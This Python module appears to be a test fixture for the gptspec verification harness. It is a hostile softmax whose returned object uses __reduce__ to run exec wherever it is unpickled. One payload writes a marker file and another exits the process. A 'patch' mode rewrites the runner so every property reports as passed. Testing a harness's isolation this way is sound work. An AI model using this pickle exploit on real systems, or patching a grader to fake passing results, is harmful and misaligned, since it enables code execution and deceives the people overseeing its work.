"""A hostile softmax: its answer carries an object whose ``__reduce__`` names ``exec``, which runs
wherever the answer is unpickled. GPTSPEC_PAYLOAD picks what it does and how it is returned:

- file (default): writes the file GPTSPEC_MARKER, in an object-dtype array;
- class: the same, as a bare object of this module's class;
- patch: writes the file, then makes gptspec's runner report every property passed;
- exit: os._exit(0) in the process that unpickles it.
"""

import os

import numpy as np

MARKER = os.environ.get("GPTSPEC_MARKER", "/tmp/gptspec-payload-ran")
KIND = os.environ.get("GPTSPEC_PAYLOAD", "file")

WRITE = f"open({MARKER!r}, 'w').write('the payload ran here')"
PATCH = WRITE + """
import gptspec.verification.runner as runner, gptspec.verification.session as session
fake = lambda prop, *a, **k: runner.result_for(prop)
runner.run_property = session.run_property = fake
runner._failure = lambda *a, **k: ('passed', None)
"""
CODE = {"file": WRITE, "class": WRITE, "patch": PATCH, "exit": "import os; os._exit(0)"}[KIND]


class Payload:
    def __reduce__(self):
        return exec, (CODE,)


def softmax(x, temperature=1.0, axis=-1):
    if KIND == "class":
        return Payload()
    answer = np.zeros(np.shape(x), dtype=object)
    answer.reshape(-1)[0] = Payload()
    return answer
